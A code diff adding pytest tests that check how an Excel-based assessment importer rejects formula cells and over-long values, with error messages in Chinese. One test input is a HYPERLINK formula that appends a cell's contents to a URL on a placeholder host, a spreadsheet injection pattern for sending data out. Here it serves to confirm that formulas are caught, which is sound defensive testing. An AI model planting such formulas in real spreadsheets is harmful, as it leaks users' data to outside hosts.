@@ -211,3 +211,40 @@ def test_messages_in_chinese_name_the_cell(tiny, sample):
     with pytest.raises(AssessmentInvalid) as info:
         assessment_from_excel(raw, tiny.model)
     assert info.value.errors[0].message("zh").startswith("answers!D2: “三”不是等级")
+
+
+@pytest.mark.parametrize(
+    ("cell", "formula", "sheet"),
+    [("D2", "=1+2", "answers"), ("F3", '=HYPERLINK("http://x/?"&A1,"open")', "answers"), ("B2", "=A1", "meta")],
+)
+def test_formula_cells_are_reported_not_dropped(tiny, sample, cell, formula, sheet):
+    found = errors_of(edit(assessment_to_excel(sample, tiny.model, "zh"), _set(cell, formula, sheet)), tiny.model)
+    assert (f"{sheet}!{cell}", "formula") in {(k, c) for k, c, _ in found}, found
+
+
+def test_a_formula_is_named_in_chinese(tiny, sample):
+    raw = edit(assessment_to_excel(sample, tiny.model, "zh"), _set("D2", "=SUM(1,2)"))
+    with pytest.raises(AssessmentInvalid) as info:
+        assessment_from_excel(raw, tiny.model)
+    assert info.value.errors[0].message("zh") == ("answers!D2: 此单元格是公式（=SUM(1,2)），本工具不计算公式："
+                                                  "请填入数值或文字")
+
+
+def test_text_that_looks_like_a_formula_stays_text(tiny, sample):
+    back = assessment_from_excel(assessment_to_excel(sample, tiny.model, "zh"), tiny.model)
+    assert back.notes["digital.platform"] == "=HYPERLINK(\"http://example.com\")"
+
+
+def test_over_long_values_name_their_cell_and_the_question(tiny, sample):
+    from maturity.assessment import MAX_NOTE, describe
+
+    def change(wb: Workbook) -> None:
+        wb["answers"]["F2"] = "长" * (MAX_NOTE + 1)
+        wb["meta"].cell(row=meta_row(wb, "organisation.name"), column=2).value = "名" * 600
+
+    with pytest.raises(AssessmentInvalid) as info:
+        assessment_from_excel(edit(assessment_to_excel(sample, tiny.model, "zh"), change), tiny.model)
+    shown = sorted(describe(e, tiny.model, "zh") for e in info.value.errors)
+    assert shown[0].startswith("1.1 党组织如何听取工会工作汇报？（备注）（answers!F2）：共 2001 个字符，超过上限 2000 个字符")
+    assert shown[1].startswith("工会名称（meta!B")
+    assert all(e.code == "too_long" for e in info.value.errors)
